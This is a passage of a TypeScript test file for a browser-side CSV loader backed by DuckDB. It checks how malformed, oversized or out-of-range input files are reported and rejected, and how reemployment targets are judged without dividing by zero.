    expect([r.fatal, r.accepted, r.rejected]).toEqual([null, 2, []]);
    expect(await engine.query(`SELECT length(source) AS n FROM actuals WHERE period = '2018-01' AND area_code = '310118' AND indicator_id = 'unemployed_reemployed'`)).toEqual([{ n: 1_000_000 }]);
  });

  it("DuckDB's reader failing on a file is a report for that file, and nothing changes", async () => {
    // Whatever shape the reader still chokes on, a load ends with a report naming the file.
    const failing: SqlEngine = {
      ...engine,
      exec: async (sql: string) => {
        if (sql.includes('read_csv(')) throw new Error('Invalid Input Error: The CSV Parser state machine reached an invalid state.');
        return engine.exec(sql);
      },
    };
    const before = await snapshot();
    const r = await loadSingleFile(failing, bytesOf('ragged-too-few.csv'));
    expect(r.fatal?.code).toBe('file_unreadable');
    expect(r.fatal?.detail).toContain('invalid state');
    expect([r.file, r.table, r.accepted]).toEqual(['ragged-too-few.csv', 'actuals', 0]);
    expect(await snapshot()).toEqual(before);
  });

  // The range as reports give it: no-break hyphens and spaces and a word joiner keep it on one line.
  const RANGE = '2000\u201101\u00a0–\u2060\u00a02027\u201101';
  const periods = (...ps: string[]) =>
    text('periods.csv', ['indicator_id,area_code,period,value', ...ps.map((p) => `unemployed_reemployed,310118,${p},1`)].join('\n'));

  it('on 2026-12-15 (the bundled data runs to 2025-12): up to 2027-01 is taken, 2027-02 on is reported', async () => {
    vi.useFakeTimers({ toFake: ['Date'] });
    vi.setSystemTime(new Date(2026, 11, 15, 10, 0));
    const r = await loadSingleFile(engine, periods('2026-12', '2027-01', '2027-02', '2030-01', '1999-12', '2000-01'));
    expect(r.accepted).toBe(3);
    expect(r.rejected.map((x) => [x.line, x.code, x.value, x.detail])).toEqual([
      [4, 'period_out_of_range', '2027-02', RANGE],
      [5, 'period_out_of_range', '2030-01', RANGE],
      [6, 'period_out_of_range', '1999-12', RANGE],
    ]);
    expect(translator('zh').issue('period_out_of_range', r.rejected[0]!.detail)).toContain(RANGE);
    // The bundled data still loads whole as a folder.
    const folder = await loadFolder(engine, folderFiles('data'));
    expect(folder.fatal).toBeNull();
    expect(folder.files.map((f) => f.rejected.length)).toEqual([0, 0, 0, 0]);
  });

  it('the range follows the local calendar month of the clock (31 December, late evening)', async () => {
    vi.useFakeTimers({ toFake: ['Date'] });
    vi.setSystemTime(new Date(2026, 11, 31, 23, 30));
    const r = await loadSingleFile(engine, periods('2027-01', '2027-02'));
    expect(r.rejected.map((x) => [x.line, x.value])).toEqual([[3, '2027-02']]);
    vi.setSystemTime(new Date(2027, 0, 1, 0, 30));
    const next = await loadSingleFile(engine, periods('2027-02', '2027-03'));
    expect(next.rejected.map((x) => [x.line, x.value])).toEqual([[3, '2027-03']]);
  });
});

// --- 100 MB ----------------------------------------------------------------------------------------

/** A well-formed actuals CSV of exactly `size` bytes (header, then rows, padded with blank lines). */
function hugeCsv(size: number): Uint8Array {
  const bytes = new Uint8Array(size);
  const head = new TextEncoder().encode('indicator_id,area_code,period,value,source\n');
  const row = new TextEncoder().encode('unemployed_reemployed,310118,2018-01,1,huge\n');
  bytes.set(head, 0);
  let at = head.length;
  for (; at + row.length <= size; at += row.length) bytes.set(row, at);
  bytes.fill(0x0a, at);
  return bytes;
}

describe('a 100 MB file', () => {
  const SIZE = 100 * 1024 * 1024;

  it('is refused as file_too_large with its size in the message; nothing changes, the engine still works', async () => {
    expect(SIZE).toBeGreaterThan(MAX_TABLE_BYTES);
    const before = await snapshot();
    const r = await loadSingleFile(engine, { name: 'huge.csv', bytes: hugeCsv(SIZE) });
    expect(r.fatal?.code).toBe('file_too_large');
    expect(r.fatal?.detail).toBe(String(SIZE));
    expect([r.accepted, r.rejected, r.table]).toEqual([0, [], null]);
    expect(translator('en').issue('file_too_large', r.fatal!.detail)).toBe(
      `the file is too large (${SIZE} bytes) for the browser`,
    );
    expect(translator('zh').issue('file_too_large', r.fatal!.detail)).toContain(String(SIZE));
    expect(await snapshot()).toEqual(before);
    // The engine is still usable: a small file loads afterwards.
    const ok = await loadSingleFile(
      engine,
      text('ok.csv', 'indicator_id,area_code,period,value\nunemployed_reemployed,310118,2018-01,5\n'),
    );
    expect([ok.fatal, ok.accepted]).toEqual([null, 1]);
  });

  it('in a folder load, fails the folder and leaves every table as it was', async () => {
    const r = await loadFolder(engine, { ...folderFiles('data'), targets: { name: 'targets.csv', bytes: hugeCsv(SIZE) } });
    expect(r.fatal?.code).toBe('file_too_large');
    expect(r.files.map((f) => [f.file, f.fatal?.code ?? null])).toEqual([
      ['areas.csv', null],
      ['indicators.csv', null],
      ['targets.csv', 'file_too_large'],
    ]);
    expect(await snapshot()).toEqual(baseline);
  });
});

// --- a target of 0 ---------------------------------------------------------------------------------

describe('a target of 0', () => {
  it('loads, and judging it never divides by zero', async () => {
    const t = await loadSingleFile(engine, bytesOf('target-zero.csv'));
    expect([t.fatal, t.accepted]).toEqual([null, 6]);
    const a = await loadSingleFile(
      engine,
      text(
        'zero-actuals.csv',
        [
          'indicator_id,area_code,period,value',
          ...['2018-01', '2018-02', '2018-03'].flatMap((p) => [
            `unemployed_reemployed,310118,${p},10`,
            `unemployed_reemployed,310104,${p},0`,
          ]),
        ].join('\n'),
      ),
    );
    expect([a.fatal, a.accepted]).toEqual([null, 6]);
    const catalog = await readCatalog(engine);
    const asOf = 2018 * 12 + 3 - 1;
    const ours = catalog.targets.filter((x) => x.targetId.startsWith('bad-z'));
    const judged = await judgeTargets(engine, catalog, ours, asOf);
    const got = Object.fromEntries(
      judged.map((j) => [
        j.target.targetId,
        [j.judgement.target, j.judgement.actual, j.judgement.expected, j.judgement.status, j.judgement.attainment],
      ]),
    );
    expect(got).toEqual({
      // >= 0: met; attainment actual ÷ 0 is undefined → null.
      'bad-z1': [0, 30, 0, 'met', null],
      // <= 0 with 30: a cap's attainment is target ÷ actual = 0 ÷ 30 = 0 % (no division by zero).
      'bad-z2': [0, 30, 0, 'behind', 0],
      // = 0 with 0: met; 0 ÷ 0 is exactly on target → 100 (one answer everywhere: judge.attainmentRatio).
      'bad-z3': [0, 0, 0, 'met', 100],
      // <= 0 with 0: met; target ÷ actual = 0 ÷ 0 → 100.
      'bad-z4': [0, 0, 0, 'met', 100],
      // No rows at all: no data.
      'bad-z5': [0, null, 0, 'no_data', null],
      // ~ 0 (within ±10 % of 0) with 0: met; 0 ÷ 0 → 100.
      'bad-z6': [0, 0, 0, 'met', 100],
    });
    for (const j of judged)
      for (const v of Object.values(j.judgement))
        if (typeof v === 'number') expect(Number.isFinite(v), j.target.targetId).toBe(true);
    const districts = await judgeDistricts(engine, catalog, judged, asOf);
    for (const d of districts) {
      if (d.shortfall != null) expect(Number.isFinite(d.shortfall), d.area.areaCode).toBe(true);
      for (const i of d.items) if (i.paceAttainment != null) expect(Number.isFinite(i.paceAttainment)).toBe(true);
    }
  });
});

// --- folders ---------------------------------------------------------------------------------------

describe('folder loads that fail leave the previous data untouched', () => {
  const data = () => folderFiles('data');
  const cases: [string, Partial<Record<TableName, InputFile | Error>>, IssueCode, string][] = [
    ['targets missing (HTTP 404)', { targets: new Error('targets.csv: HTTP 404') }, 'table_missing', 'targets.csv'],
    ['targets is an XLSX renamed to .csv', { targets: bytesOf('xlsx-renamed.csv') }, 'file_xlsx', 'xlsx-renamed.csv'],
    ['actuals is binary', { actuals: bytesOf('binary.csv') }, 'file_binary', 'binary.csv'],
    ['areas is semicolon-separated', { areas: bytesOf('semicolon.csv') }, 'not_recognised', 'semicolon.csv'],
    [
      'indicators holds the areas table',
      { indicators: { ...data().areas, name: 'indicators.csv' } },
      'not_recognised',
      'indicators.csv',
    ],
    ['actuals is a header only', { actuals: bytesOf('header-only.csv') }, 'header_only', 'header-only.csv'],
    ['areas is empty', { areas: bytesOf('empty.csv') }, 'file_empty', 'empty.csv'],
    ['areas is Big5', { areas: bytesOf('big5.csv') }, 'encoding_unsure', 'big5.csv'],
  ];
  it.each(cases)('%s', async (_name, replace, code, file) => {
    const r = await loadFolder(engine, { ...data(), ...replace });
    expect(r.fatal?.code).toBe(code);
    expect(r.files.at(-1)?.file).toBe(file);
    expect(await snapshot()).toEqual(baseline);
  });

  it('names the columns a wrongly placed table lacks', async () => {
    const r = await loadFolder(engine, { ...data(), indicators: { ...data().areas, name: 'indicators.csv' } });
    expect(r.fatal?.detail).toBe('indicator_id, unit, kind');
  });

  it('a folder whose actuals are partly bad still swaps in, with the bad rows reported', async () => {
    const r = await loadFolder(engine, { ...data(), actuals: bytesOf('numbers-bad.csv') });
    expect(r.fatal).toBeNull();
    expect(r.files.map((f) => [f.table, f.accepted, f.rejected.length])).toEqual([
      ['areas', baseline.areas.length, 0],
      ['indicators', baseline.indicators.length, 0],
      ['targets', baseline.targets.length, 0],
      ['actuals', 2, 10],
    ]);
    const after = await snapshot();
    expect([after.areas, after.indicators, after.targets]).toEqual([baseline.areas, baseline.indicators, baseline.targets]);
    expect(after.actuals.map((x) => [x.period, x.value])).toEqual([
      ['2018-01', 100],
      ['2018-12', 1000],
    ]);
  });
});
